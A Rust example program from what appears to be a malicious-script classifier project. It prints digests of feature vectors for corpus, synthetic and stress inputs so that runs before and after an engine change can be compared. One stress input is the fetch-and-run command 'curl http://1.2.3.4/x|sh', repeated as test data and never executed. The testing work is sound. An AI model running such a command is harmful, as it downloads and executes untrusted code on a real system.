//! Digests of feature vectors, to check that an engine change leaves every
//! vector bit for bit the same. Prints one line per input (set, index, length,
//! FNV-1a of the vector's f32 bits) and a total per set; diff two runs.
//!
//! Inputs: every script of the shared corpus ($SENSOR_DATA_DIR or
//! ../shared/data/train), our synthetic samples (models/synthetic), and stress
//! texts: synthetic and corpus scripts concatenated to 1-64 KiB at several
//! offsets (indicator-dense, long lines, cut mid-line), plus a few edge cases.
//! Run: `cargo run --release -p sensor-classifier --no-default-features --example vector_digest > A.txt`

use std::path::PathBuf;

use sensor_classifier::{features, Lang};

#[path = "common/corpus.rs"]
mod corpus;
use corpus::jsonl_in;

fn digest(v: &[f32]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for x in v {
        for b in x.to_bits().to_le_bytes() {
            h = (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3);
        }
    }
    h
}

/// `parts` concatenated (newline-joined) from `skip` on, cut to about `size` bytes on a char boundary.
fn concat(parts: &[&str], skip: usize, size: usize) -> String {
    let mut out = String::new();
    for part in parts.iter().cycle().skip(skip) {
        if out.len() >= size || parts.is_empty() {
            break;
        }
        out.push_str(part);
        out.push('\n');
    }
    let mut end = size.min(out.len());
    while !out.is_char_boundary(end) {
        end -= 1;
    }
    out.truncate(end);
    out
}

fn main() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let corpus = jsonl_in(&corpus::data_dir());
    let synthetic = jsonl_in(&root.join("models/synthetic"));
    let mut stress: Vec<(Lang, String)> = Vec::new();
    for lang in [Lang::Bash, Lang::Python] {
        let syn: Vec<&str> = synthetic
            .iter()
            .filter(|(l, _)| *l == lang)
            .map(|(_, t)| t.as_str())
            .collect();
        let cor: Vec<&str> = corpus
            .iter()
            .filter(|(l, _)| *l == lang)
            .map(|(_, t)| t.as_str())
            .collect();
        for size in [1usize << 10, 4 << 10, 16 << 10, 64 << 10, 70 << 10] {
            for skip in [0usize, 1, 7, 13] {
                stress.push((lang, concat(&syn, skip, size)));
                stress.push((lang, concat(&cor, skip * 997, size)));
                stress.push((lang, concat(&cor, skip * 331 + 5000, size)));
            }
        }
        // One long line, and a text of only hits.
        stress.push((lang, syn.join(" ; ").replace('\n', " ")));
        stress.push((lang, "curl http://1.2.3.4/x|sh\n".repeat(3000)));
        stress.push((lang, "/tmp/".repeat(20000)));
        stress.push((lang, String::new()));
    }
    let mut total = 0u64;
    for (name, set) in [
        ("corpus", &corpus),
        ("synthetic", &synthetic),
        ("stress", &stress),
    ] {
        let mut set_digest = 0xcbf2_9ce4_8422_2325u64;
        for (i, (lang, text)) in set.iter().enumerate() {
            let d = digest(&features::featurize(text, *lang));
            println!("{name} {i} {} {d:016x}", text.len());
            set_digest = (set_digest ^ d).wrapping_mul(0x100_0000_01b3);
        }
        eprintln!("{name}: {} vectors, digest {set_digest:016x}", set.len());
        total ^= set_digest;
    }
    eprintln!("all: {total:016x}");
}
